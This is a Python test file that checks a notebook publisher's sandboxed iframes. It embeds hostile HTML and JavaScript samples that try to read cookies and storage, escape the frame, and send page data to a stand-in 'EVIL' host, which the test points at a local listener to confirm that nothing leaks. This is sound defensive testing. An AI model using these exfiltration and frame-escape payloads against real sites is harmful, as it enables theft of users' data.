"""Scripts in the outputs of notebooks, where the site's owner allows them: they draw, and reach nothing else."""

import contextlib
import json
import re
import socket
import threading
import zipfile

import pytest
from playwright.sync_api import expect

from publisher.cli.main import main
from tests.publish import samples

FRIENDLY = """\
<div id="plot" style="height:300px"></div>
<script>
  const canvas = document.createElement("canvas");
  canvas.getContext("2d").fillRect(0, 0, 9, 9);
  document.getElementById("plot").append(canvas, new Function("return 'drawn by Ada Example'")());
</script>
"""
#: Each attempt says what it got; one that throws, or whose event is an error, was refused.
ATTEMPTS = """\
<style>@import url(EVIL/import.css); body { background: url(EVIL/background.png) }</style>
<link rel=stylesheet href=EVIL/x.css><link rel=preconnect href=EVIL/><link rel=prefetch href=EVIL/prefetch>
<link rel=modulepreload href=EVIL/x.mjs><img src=EVIL/picture.png><script src=EVIL/x.js></script>
<video src=EVIL/x.mp4></video><object data=EVIL/x></object><embed src=EVIL/x>
<form action=EVIL/form id=form><input name=x></form>
<a id=top target=_top href=EVIL/top>x</a><a id=blank target=_blank href=EVIL/blank>x</a>
<a id=ping ping=EVIL/ping href=#x>x</a><a id=file download=x.txt href=data:text/plain,x>x</a>
<iframe srcdoc="<img src=EVIL/inner.png><script>fetch('EVIL/inner')</script>"></iframe>
<script>
const event = (target, good, bad) => new Promise((done, failed) => {
  target.addEventListener(good, () => done("event"));
  target.addEventListener(bad, () => failed(new Error(bad)));
});
const picture = new Image(), script = document.createElement("script");
const attempts = {
  "the page": () => parent.document.title,
  "the frame's element": () => frameElement && frameElement.outerHTML,
  "an address": () => parent.location.href,
  "cookies": () => document.cookie,
  "local storage": () => localStorage.length,
  "session storage": () => sessionStorage.length,
  "a database": () => event(indexedDB.open("x"), "success", "error"),
  "caches": () => caches.keys(),
  "a service": () => navigator.serviceWorker.register("x.js"),
  "top": () => { top.location = "EVIL/top"; },
  "a window": () => open("EVIL/window") && "opened",
  "fetch": () => fetch("EVIL/fetch", {mode: "no-cors"}),
  "a file of the site": () => fetch(location.href),
  "a request": () => { const asked = new XMLHttpRequest(); asked.open("GET", "EVIL/request", false); asked.send(); return "sent"; },
  "a beacon": () => { navigator.sendBeacon("EVIL/beacon"); },
  "a socket": () => event(new WebSocket("EVIL/socket".replace("http", "ws")), "open", "error"),
  "events": () => event(new EventSource("EVIL/events"), "open", "error"),
  "a picture": () => { picture.src = "EVIL/picture"; return event(picture, "load", "error"); },
  "a script": () => { script.src = "EVIL/script.js"; document.head.append(script); return event(script, "load", "error"); },
  "a module": () => import("EVIL/module.js"),
  "a worker": () => event(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))), "message", "error"),
  "a connection": () => new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:9"}]}) && "made",
  "words": () => navigator.clipboard.readText(),
  "a question": () => prompt("x"),
};
(async () => {
  const got = {};
  for (const name in attempts) {
    try { const found = await attempts[name](); if (found) got[name] = String(found); } catch (refused) { /* as it should */ }
  }
  for (const id of ["top", "blank", "ping", "file"]) document.getElementById(id).click();
  document.getElementById("form").submit();
  document.body.append(Object.assign(document.createElement("pre"), {id: "got", textContent: JSON.stringify(got)}));
})();
</script>
"""
LEAVING = [
    "<script>location = 'EVIL/?' + document.title</script>",
    "<meta http-equiv=refresh content='0;url=EVIL/refresh'><script></script>",
    "<a id=a href=EVIL/link>x</a><script>document.getElementById('a').click()</script>",
]


class Listener:
    """Somebody elsewhere, who hears what is sent."""

    def __init__(self):
        self.heard = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.address = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        self._thread = threading.Thread(target=self._listen)
        self._thread.start()

    def _listen(self):
        while True:
            connection, _ = self._socket.accept()
            with connection:
                connection.settimeout(0.3)
                with contextlib.suppress(OSError):
                    said = connection.recv(1000)
                    if said == b"enough":
                        return
                    if said:
                        self.heard.append(said.partition(b"\r\n")[0])

    def close(self):
        """Hear out who came before."""
        with socket.create_connection(self._socket.getsockname()) as last:
            last.sendall(b"enough")
        self._thread.join()
        self._socket.close()


@pytest.fixture(scope="module")
def listener():
    elsewhere = Listener()
    yield elsewhere
    elsewhere.close()
    assert elsewhere.heard == []


@pytest.fixture(scope="module")
def project(tmp_path_factory, listener):
    project = samples.project_at(tmp_path_factory.mktemp("frames") / "paper")
    samples.record(project)
    (project.root / "publisher.yml").write_text(
        json.dumps({"site": {"notebook_scripts": True}, "paper": {"authors": ["Ada Example"]}})
    )
    for name, displayed in {"attempts": [ATTEMPTS], "friendly": [FRIENDLY], "leaving": LEAVING}.items():
        outputs = [
            samples.shows(text_html=html.replace("EVIL", listener.address), text_plain="Figure()")
            for html in displayed
        ]
        outputs[0]["data"]["application/vnd.plotly.v1+json"] = {}
        (project.root / f"{name}.ipynb").write_text(samples.notebook(samples.code_cell(name, *outputs)))
    (project.root / "plain.ipynb").write_text(samples.notebook(samples.text_cell("# Words")))
    with contextlib.chdir(project.root):
        assert main(["build"]) == 0
    return project


@pytest.fixture(scope="module")
def site(project):
    return project.root / "site"


@pytest.fixture(params=["server", "file"])
def start(request, project, origin):
    """The top of the site, from a server and from a folder."""
    return origin if request.param == "server" else f"{(project.root / 'site').as_uri()}/"


@pytest.fixture
def page(browser):
    context = browser.new_context(viewport={"width": 1280, "height": 2000})
    page = context.new_page()
    page.events = []
    for event in ("popup", "download", "dialog"):
        page.on(event, lambda _, event=event: page.events.append(event))
    yield page
    context.close()
    assert page.events == []


def test_what_needs_scripts_is_drawn_in_a_frame_with_a_title_and_the_height_that_it_asks_for(page, start):
    page.goto(f"{start}notebooks/friendly.html")
    frame = page.locator(".pub-interactive")
    expect(frame).to_have_attribute("title", "Interactive output 1, of cell 1")
    expect(frame).to_have_attribute("sandbox", "allow-scripts")
    expect(frame).to_have_css("height", "324px")
    expect(page.frame_locator(".pub-interactive").locator("#plot")).to_contain_text("drawn by Ada Example")
    expect(page.frame_locator(".pub-interactive").locator("canvas")).to_be_visible()
    page.set_viewport_size({"width": 360, "height": 740})
    assert page.evaluate("document.documentElement.scrollWidth") == 360


def test_a_script_in_a_frame_reaches_nothing(page, start, listener):
    page.goto(f"{start}notebooks/attempts.html")
    got = page.frame_locator(".pub-interactive").locator("#got")
    expect(got).to_be_attached(timeout=20_000)
    assert json.loads(got.text_content()) == {}
    assert page.url == f"{start}notebooks/attempts.html"
    assert listener.heard == []


def test_a_frame_goes_nowhere_else(page, start, listener):
    def refused(frame):
        stopped.update([frame] if frame.url.startswith("chrome-error:") else [])
        return len(stopped) == len(LEAVING)

    stopped = set()
    with page.expect_event("framenavigated", refused):
        page.goto(f"{start}notebooks/leaving.html")
    assert page.url == f"{start}notebooks/leaving.html"
    assert listener.heard == []


def test_opened_by_its_address_a_frame_shows_and_runs_nothing(page, start, listener):
    page.goto(f"{start}notebooks/attempts_files/frame-1.html")
    expect(page.get_by_text("This belongs to a notebook, and is shown in its page.")).to_be_visible()
    expect(page.locator("script")).to_have_count(1)  # which is ours
    expect(page.locator("#got, iframe, link, img, form")).to_have_count(0)
    assert listener.heard == []


def test_only_pages_with_frames_may_show_them(project):
    site = project.root / "site"
    having = {
        path.relative_to(site).as_posix()
        for path in site.rglob("*.html")
        if "frame-src 'self'" in path.read_text("utf-8")
    }
    assert having == {f"notebooks/{name}.html" for name in ("attempts", "friendly", "leaving")}


def test_an_anonymous_zip_holds_the_frames_and_no_name(page, project, tmp_path):
    with contextlib.chdir(project.root):
        assert main(["build", "--anonymous", "--zip", str(tmp_path / "a.zip")]) == 0
    with zipfile.ZipFile(tmp_path / "a.zip") as archive:
        archive.extractall(tmp_path / "unpacked")
    (opened,) = (tmp_path / "unpacked").rglob("friendly.html")
    page.goto(opened.as_uri())
    plot = page.frame_locator(".pub-interactive").locator("#plot")
    expect(plot).to_contain_text(re.compile(r"^\s*drawn by \(anonymous\)\s*$"))
